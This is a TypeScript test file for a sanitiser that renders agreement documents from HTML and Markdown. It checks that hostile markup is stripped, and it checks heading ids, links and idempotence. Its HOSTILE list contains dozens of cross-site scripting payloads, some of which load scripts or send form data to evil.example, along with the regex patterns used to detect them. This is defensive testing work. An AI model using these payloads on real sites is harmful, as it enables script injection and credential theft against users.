import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sampleAgreementFile, sampleAgreementHtml } from '../samples/sample-agreement';
import { hasWords, shownHtmlOf } from './shown-html';

const shown = (html: string): string => shownHtmlOf({ kind: 'HTML', bytes: Buffer.from(html) }).trim();
const fromMarkdown = (text: string): string => shownHtmlOf({ kind: 'MARKDOWN', bytes: Buffer.from(text) }).trim();

/** What nothing that is shown may hold, however it was written. */
const ACTING = /<(?!\/?(?:h[1-6]|p|br|hr|div|section|article|address|blockquote|pre|ol|ul|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|a|abbr|b|cite|code|em|i|q|s|small|span|strong|sub|sup|u)\b)/i;
const HANDLER = /<[^>]*\s(?:on\w+|style|class|src|srcset|srcdoc|action|formaction|background|poster|xlink:href|data-\w+|name|target|ping|is|slot)\s*=/i;
const ADDRESS = /<[^>]*\shref\s*=\s*(?!"(?:https?:\/\/|mailto:|#))/i;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<p>a</p><script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<p style="background:url(https://evil.example/x)">a</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jAvAsCrIpT:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:x">a</a><a href="//evil.example">b</a><a href="/sign-out">c</a><a href="\\\\evil.example">d</a>',
  '<a href="https://good.example" onclick="alert(1)" target="_blank" ping="https://evil.example">a</a>',
  '<p onmouseover=alert(1) id="x" class="button" data-x="1">a</p>',
  '<p id="a\'onclick=alert(1) b">a</p>',
  '<!--><script>alert(1)</script>--><p>a</p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><p>a</p>',
  '<template><script>alert(1)</script></template>',
  '<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<p title="</p><script>alert(1)</script>">a</p>',
  '<custom-element is="x-y" onclick=alert(1)>a</custom-element>',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<p><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></p>',
];

describe('What is shown of a hostile text', () => {
  it.each(HOSTILE)('does nothing and loads nothing: %s', (hostile) => {
    for (const html of [shown(`<h1>Agreement</h1>${hostile}`), fromMarkdown(`# Agreement\n\n${hostile}\n\n[x](javascript:alert(1)) ![y](https://evil.example/y.png)`)]) {
      expect(html).not.toMatch(ACTING);
      expect(html).not.toMatch(HANDLER);
      expect(html).not.toMatch(ADDRESS);
      expect(html).toContain('Agreement');
    }
  });

  it('does nothing whatever tags, attributes and halves of both are put together', () => {
    const piece = fc.constantFrom('<', '>', '"', "'", '=', ' ', '/', '<!--', '-->', '<script', '</script>', '<svg', '<style>', '</style>', '<img src=x', 'onerror=', 'alert(1)', '<p', '<a href=', 'javascript:', '<math>', '<noscript>', '&lt;', '\u0000', '<![CDATA[', ']]>', 'text');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const html = shown(pieces.join(''));
        return !ACTING.test(html) && !HANDLER.test(html) && !ADDRESS.test(html) && shown(html) === html;
      }),
      { numRuns: 500 },
    );
  });
});

describe('What is shown of an agreement', () => {
  it('keeps headings, lists and tables, and gives every heading an id of its own', () => {
    const html = shown('<html><head><title>Page</title></head><body><h1 id="top">Agreement</h1><h2>Scope</h2><ol start="3"><li>One</li></ol><h2 id="top">Term</h2><table><tr><th scope="col" colspan="2">A</th></tr></table></body></html>');
    expect(html).toBe('<h1 id="agreement-top">Agreement</h1><h2 id="agreement-heading-2">Scope</h2><ol start="3"><li>One</li></ol><h2 id="agreement-top-2">Term</h2><table><tr><th scope="col" colspan="2">A</th></tr></table>');
  });

  it('keeps links: inside the text they go where they went, outside they tell nobody from where', () => {
    expect(shown('<p><a href="#term">Term</a> <a href="https://example.com/a?b=1&amp;c=2">Site</a> <a href="mailto:a@b.example">Mail</a></p><h2 id="term">Term</h2>')).toBe(
      '<p><a href="#agreement-term">Term</a> <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">Site</a> <a href="mailto:a@b.example" rel="noopener noreferrer">Mail</a></p><h2 id="agreement-term">Term</h2>',
    );
  });

  it('keeps the words of what is taken out, unless they are no words of the agreement', () => {
    expect(shown('<center>Words</center><font color="red">in red</font><style>p{}</style><script>x</script>')).toBe('Wordsin red');
  });

  it('is made from Markdown, with tables, lists and what was written in HTML', () => {
    const html = fromMarkdown('# 顧客契約書\n\n## 第1条\n\n1. 甲は **乙** に\n2. <u>下線</u>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n');
    expect(html).toContain('<h1 id="agreement-heading-1">顧客契約書</h1>');
    expect(html).toContain('<h2 id="agreement-heading-2">第1条</h2>');
    expect(html).toContain('<strong>乙</strong>');
    expect(html).toContain('<u>下線</u>');
    expect(html).toMatch(/<table>\s*<thead>/);
  });

  it('is the same when it is made again, and when it is made from itself', () => {
    const html = shown('<h1>A</h1><h2>B</h2><p id="c">C &amp; <a href="#c">D</a> &lt;tag&gt; "x"</p>');
    expect(shown(html)).toBe(html);
  });

  it('is, for the samples, what they have shown from the first', () => {
    const sample = { country: 'JP', language: 'ja-JP', version: '2026-06' } as const;
    expect(shownHtmlOf({ kind: 'HTML', bytes: sampleAgreementFile(sample).bytes })).toContain(sampleAgreementHtml(sample).trim());
  });

  it('has words, or there is nothing to agree to', () => {
    expect([hasWords('<p>条</p>'), hasWords('<p>&nbsp;</p><hr>'.replace('&nbsp;', '\u00a0')), hasWords('<p id="agreement-a1">…</p>')]).toEqual([true, false, false]);
  });
});
